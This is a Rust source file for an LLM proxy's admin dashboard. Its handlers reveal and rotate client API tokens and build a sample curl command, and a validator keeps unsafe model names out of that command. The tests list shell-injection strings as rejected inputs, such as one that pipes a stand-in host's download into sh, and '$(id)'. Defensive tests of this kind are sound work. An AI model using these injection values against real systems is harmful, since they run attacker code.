//! Where a client token is seen whole: when it is made, rotated or revealed.

use poem::web::Path;
use poem::{Response, handler};
use serde::Serialize;

use super::super::fields::Fields;
use super::one::About;
use super::{found, page_of};
use crate::changes::new_client_token;
use crate::domain::provider::ProviderId;
use crate::storage::{self, ClientTokenRow, TokenRef};
use crate::web::pages::{Admin, Error};
use crate::web::templates::Page;
use crate::web::text::Text;

/// A token as a whole, with a line that uses it.
#[derive(Serialize)]
pub(in crate::web) struct Shown {
    /// `created`, `rotated` or `revealed`.
    kind: &'static str,
    /// The token's page.
    href: String,
    name: String,
    token: String,
    curl: String,
}

/// What is asked before a token is rotated or revealed.
#[derive(Serialize)]
pub(in crate::web) struct Ask {
    about: About,
    /// Whether the old token is to end, or only to be seen.
    is_rotation: bool,
    error: Option<Text>,
}

impl Page for Shown {
    const TEMPLATE: &'static str = "pages/tokens/shown.html";
}

impl Page for Ask {
    const TEMPLATE: &'static str = "pages/tokens/ask.html";
}

#[handler]
pub(super) async fn ask_to_reveal(admin: Admin, Path(id): Path<String>) -> Result<Response, Error> {
    let about = About::of(admin.state(), found(&admin, &id).await?);
    admin.visit.page(&Ask { about, is_rotation: false, error: None }).await
}

#[handler]
pub(super) async fn reveal(admin: Admin, Path(id): Path<String>, fields: Fields) -> Result<Response, Error> {
    let (state, item) = (admin.state(), found(&admin, &id).await?);
    if let Some(error) = admin.confirm(fields.get("token")).await {
        let page = Ask { about: About::of(state, item), is_rotation: false, error: Some(error) };
        return admin.visit.refused(&page).await;
    }
    let revealed = state.changes.reveal_client_token(TokenRef::Id(item.token.id), admin.by()).await?;
    let text = revealed.ok_or(Error::NotFound)?.expose().to_owned();
    admin.visit.secret_page(&Shown::new(&admin, "revealed", &item.token, text).await?).await
}

#[handler]
pub(super) async fn ask_to_rotate(admin: Admin, Path(id): Path<String>) -> Result<Response, Error> {
    let about = About::of(admin.state(), found(&admin, &id).await?);
    admin.visit.page(&Ask { about, is_rotation: true, error: None }).await
}

#[handler]
pub(super) async fn rotate(admin: Admin, Path(id): Path<String>) -> Result<Response, Error> {
    let item = found(&admin, &id).await?;
    let secret = new_client_token().map_err(storage::Error::from)?;
    let text = secret.expose().to_owned();
    let token = TokenRef::Id(item.token.id);
    let row = admin.state().changes.rotate_client_token(token, secret, admin.by()).await?.ok_or(Error::NotFound)?;
    admin.visit.secret_page(&Shown::new(&admin, "rotated", &row, text).await?).await
}

impl Shown {
    pub(super) async fn new(
        admin: &Admin,
        kind: &'static str,
        row: &ClientTokenRow,
        token: String,
    ) -> Result<Self, Error> {
        let state = admin.state();
        let provider = row.provider.as_ref().unwrap_or(&state.control.default_provider);
        let route = if *provider == state.control.default_provider { String::new() } else { format!("/{provider}") };
        let curl =
            curl(&format!("{}{route}/v1", admin.visit.origin()), &token, model(admin, provider).await?.as_deref());
        Ok(Self { kind, href: page_of(row.id), name: row.name.clone(), token, curl })
    }
}

/// The model that this provider answered for most often. Clients name models, and this name goes into a command.
async fn model(admin: &Admin, provider: &ProviderId) -> Result<Option<String>, Error> {
    const LOOKED_AT: u32 = 10;
    let models = admin.state().storage.top_models(Some(provider.clone()), LOOKED_AT).await?;
    let mut names = models.into_iter().filter(|model| model.tally.success > 0).map(|model| model.model);
    Ok(names.find(|name| is_plain(name)).map(|name| name.as_ref().to_owned()))
}

fn is_plain(name: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.:/@".contains(&byte);
    (1..=100).contains(&name.len()) && name.bytes().all(is_plain)
}

/// A command that asks something; where no model is known, for the models.
fn curl(base: &str, token: &str, model: Option<&str>) -> String {
    let Some(model) = model else {
        return format!("curl {base}/models \\\n  -H 'Authorization: Bearer {token}'");
    };
    let body = format!(r#"{{"model": "{model}", "messages": [{{"role": "user", "content": "Hello"}}]}}"#);
    format!(
        "curl {base}/chat/completions \\\n  -H 'Authorization: Bearer {token}' \\\n  \
        -H 'Content-Type: application/json' \\\n  -d '{body}'"
    )
}

#[cfg(test)]
impl crate::web::pages::registry::Sampled for Shown {
    fn samples() -> Vec<Self> {
        let shown = |kind, model| Self {
            kind,
            href: String::from("/dashboard/tokens/1"),
            name: String::from("<b>payload</b>"),
            token: String::from("sk-0123456789"),
            curl: curl("https://pool.example/v1", "sk-0123456789", model),
        };
        vec![shown("created", None), shown("rotated", Some("gpt-oss:120b")), shown("revealed", None)]
    }
}

#[cfg(test)]
impl crate::web::pages::registry::Sampled for Ask {
    fn samples() -> Vec<Self> {
        let ask = |state, is_rotation, error| Self { about: About::sample(state), is_rotation, error };
        let wrong = Some(Text::new("sign-in-wrong"));
        vec![ask("active", false, wrong), ask("disabled", false, None), ask("disabled", true, None)]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_name_of_a_model_gets_out_of_the_command() {
        for plain in ["gpt-oss:120b", "anthropic/claude-sonnet-4.5", "@cf/meta/llama_3"] {
            assert!(is_plain(plain), "{plain}");
        }
        for odd in
            ["", "x'; curl evil.example | sh; '", "a b", "a\"b", "a\\b", "$(id)", "模型", "a\nb", &"a".repeat(101)]
        {
            assert!(!is_plain(odd), "{odd}");
        }
    }

    #[test]
    fn a_command_asks_for_the_models_where_none_is_known() {
        let known = curl("https://pool.example/v1", "sk-1", Some("m:1"));
        assert!(
            known.starts_with("curl https://pool.example/v1/chat/completions \\\n  -H 'Authorization: Bearer sk-1'")
        );
        assert!(
            known.ends_with(r#"-d '{"model": "m:1", "messages": [{"role": "user", "content": "Hello"}]}'"#),
            "{known}"
        );
        assert!(curl("https://pool.example/v1", "sk-1", None).contains("/v1/models "));
    }
}
